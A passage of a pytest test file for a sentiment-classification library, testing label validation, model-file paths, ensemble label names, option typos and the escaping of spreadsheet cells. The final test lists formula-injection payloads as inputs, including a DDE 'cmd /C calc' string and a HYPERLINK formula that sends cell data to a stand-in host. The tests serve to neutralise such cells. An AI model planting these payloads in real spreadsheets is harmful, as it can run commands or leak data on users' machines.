    """A warning names the line that called fit (as scikit-learn's do), not a line inside the package."""
    import sys
    import warnings

    from sentiment import AbsentLabelWarning
    from sentiment.errors import TuningWarning

    def caught_at(category, fit, *args) -> list[tuple[str, int]]:
        with warnings.catch_warnings(record=True) as caught:
            warnings.simplefilter("always")
            fit(*args); line = sys._getframe().f_lineno  # noqa: E702 - the line of the call itself
        assert [(w.filename, w.lineno) for w in caught if issubclass(w.category, category)] == [(__file__, line)]

    caught_at(AbsentLabelWarning, Pipeline(class_weight={"good": 2}).fit, binary.train_texts, binary.train_labels)
    caught_at(LabelSpellingWarning, Pipeline().fit, ["good", "bad", "fine"], ["pos", "neg", "Pos"])
    caught_at(TuningWarning, Pipeline().fit, ["good", "bad"], [["pos"], ["neg"]])


def test_labels_that_are_neither_names_nor_numbers_are_refused(binary):
    texts, labels = binary.train_texts, binary.train_labels
    with pytest.raises(DataError, match=r"label 0 is a dict \(\{'y': '\w+'\}\); a label is a name or a number"):
        Pipeline().fit(texts, [{"y": y} for y in labels])
    with pytest.raises(DataError, match=r"label list 0 holds \[\['\w+'\]\]; give each text a list of names or numbers"):
        Pipeline().fit(texts, [[[y]] for y in labels])


def test_a_classical_model_of_one_label_per_text_does_not_read_the_dev_texts_it_would_not_use(monkeypatch):
    """fit checks the dev labels, but cleaning and vectorizing the dev texts is work for a model that neither
    early-stops nor tunes thresholds on them."""
    import sentiment.pipeline as pipeline_module

    def refuse(*args, **kwargs):
        raise AssertionError("the dev texts were vectorized")

    monkeypatch.setattr(pipeline_module, "_model_input", refuse)
    texts, labels = ["good film", "bad film", "great", "awful"] * 3, [1, 0, 1, 0] * 3
    Pipeline().fit(texts, labels, dev=(["fine film"], [1]))
    with pytest.raises(sentiment.DataError):  # still checked: a dev label the training labels lack
        Pipeline().fit(texts, labels, dev=(["fine film"], [7]))


def test_a_model_name_given_as_the_vectorizer_is_named_so():
    with pytest.raises(ConfigError, match=r"unknown vectorizer 'logreg'; .*\('logreg' is a model: give it as model='logreg'\)"):
        Pipeline("logreg")


def test_evaluate_checks_its_labels_as_score_does(binary):
    from sentiment.evaluation import evaluate

    pipe = Pipeline("tfidf", "logreg").fit(binary.train_texts, binary.train_labels)
    texts = binary.dev_texts[:8]
    with pytest.raises(DataError, match="not a single string"):
        evaluate(pipe, texts, "pos")  # was scored letter by letter: "label(s) o, p, s were not seen"
    with pytest.raises(DataError, match="labels must be a list"):
        evaluate(pipe, texts, None)  # was a TypeError


def test_a_model_path_under_the_home_folder_is_refused_not_made_here(binary, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    pipe = Pipeline("tfidf", "logreg").fit(binary.train_texts, binary.train_labels)
    with pytest.raises(ModelFileError, match=r"starts with '~', which Python does not read as the home folder; give the "
                                             r"full path \(os.path.expanduser"):
        pipe.save("~/models/m")  # was saved into a folder named "~" of the working folder
    assert not (tmp_path / "~").exists()
    with pytest.raises(ModelFileError, match="starts with '~'"):
        sentiment.load("~/models/m")


def test_the_label_names_given_to_fit_name_a_class_only_where_no_value_or_name_does(binary, tmp_path):
    """A gold label that is a class value or display name matches as it is; the names given to fit (kept as
    label_ids_) name the classes by the values they named last, so values and names that cross (1/2 data named
    0/1, or 0/1 named "1"/"0") score as fit read them."""
    texts, labels = binary.train_texts, binary.train_labels
    ones_twos = [2 if y == labels[0] else 1 for y in labels]
    pipe = Pipeline("tfidf", "logreg").fit(texts, ones_twos, label_names={1: "0", 2: "1"})
    loaded = sentiment.load(pipe.save(tmp_path / "m"))
    assert pipe.score(texts, ones_twos) == loaded.score(texts, ones_twos) > 0.9
    swapped = [0 if y == labels[0] else 1 for y in labels]
    assert Pipeline("tfidf", "logreg").fit(texts, swapped, label_names={0: "1", 1: "0"}).score(texts, swapped) > 0.9
    from sentiment.labels import codes_for

    # an id's name means the class of that display name, where a class's value is spelt the same ("1": class 2)
    assert codes_for(np.array([1, 2]), ["0", "1"], ["7", 1, "1"], ids={"7": "1"}).tolist() == [1, 0, 0]
    # an ensemble reads its members' names too
    named = Pipeline("tfidf", "logreg").fit(texts, labels, label_names={y: y for y in set(labels)})
    by_name = Pipeline("count", "nb").fit(texts, labels)
    assert sentiment.Ensemble([named, by_name]).label_ids_ == named.label_ids_
    assert sentiment.Ensemble([by_name, named]).score(texts, labels) > 0.9
    # a single model whose given names cross its own (the value 0 names "2", the class named "0" is 1): the class
    # value or name wins, as without the names
    crossed = Pipeline("tfidf", "logreg").fit(texts, ones_twos, label_names={1: "0", 2: "1", 0: "2"})
    assert crossed.score(texts, [y - 1 for y in ones_twos]) < 0.6
    # members given the same values as different names: refused where a label uses them, in either order
    first, second = sorted(set(labels))
    one = Pipeline("tfidf", "logreg").fit(texts, labels, label_names={first: first, second: second})
    one.label_ids_ = {"0": first, "1": second}  # as fit keeps --label-names of a dev file's codes
    other = Pipeline("count", "nb").fit(texts, labels)
    other.label_ids_ = {"0": second, "1": first}
    codes = [0 if y == first else 1 for y in labels]
    for members in ((one, other), (other, one)):
        with pytest.raises(sentiment.DataError, match="name different classes in different members of the ensemble"):
            sentiment.Ensemble(list(members)).score(texts, codes)


def test_another_stage_s_own_option_comes_before_a_valid_name_it_only_starts(binary):
    """norm is tfidf's option, not the start of normalize_unicode; a typo close to a valid name stays first."""
    with pytest.raises(ConfigError, match=r"unknown option 'norm' for vectorizer 'count' and model 'logreg' \(an option "
                                          r"of vectorizer 'tfidf': choose it\)"):
        Pipeline("count", "logreg", norm="l1").fit(binary.train_texts, binary.train_labels)
    with pytest.raises(ConfigError, match=r"unknown option 'hidden_size' .* \(did you mean 'hidden_sizes'\?\)"):
        Pipeline("tfidf", "mlp", hidden_size=8).fit(binary.train_texts, binary.train_labels)
    with pytest.raises(ConfigError, match=r"unknown option 'ngram' .* \(did you mean 'ngram_range'\?\)"):
        Pipeline("count", "logreg", ngram=2).fit(binary.train_texts, binary.train_labels)


@pytest.mark.parametrize("cell, runs", [
    ('=HYPERLINK("http://x/?"&A1,"neg")', True), ("@SUM(1+1)", True), ('+cmd|" /C calc"!A0', True),
    ("-2+cmd|' /C calc'!A0", True), ("\t=1+1", True), ("\uff1dSUM(A1)", True), ("- sum (A1)", True), ("=)", True),
    ("-1", False), ("+ve", False), ("-1 (negative)", False), ("+1 (positive)", False), ("-", False), ("@", False),
    ("positive", False), ("😀", False),
])
def test_cells_a_spreadsheet_would_run_are_written_as_plain_text(cell, runs):
    from sentiment.checks import spreadsheet_formula, spreadsheet_safe

    assert spreadsheet_formula(cell) is runs
    assert spreadsheet_safe([cell, 0.5, None]) == [("'" + cell) if runs else cell, 0.5, None]
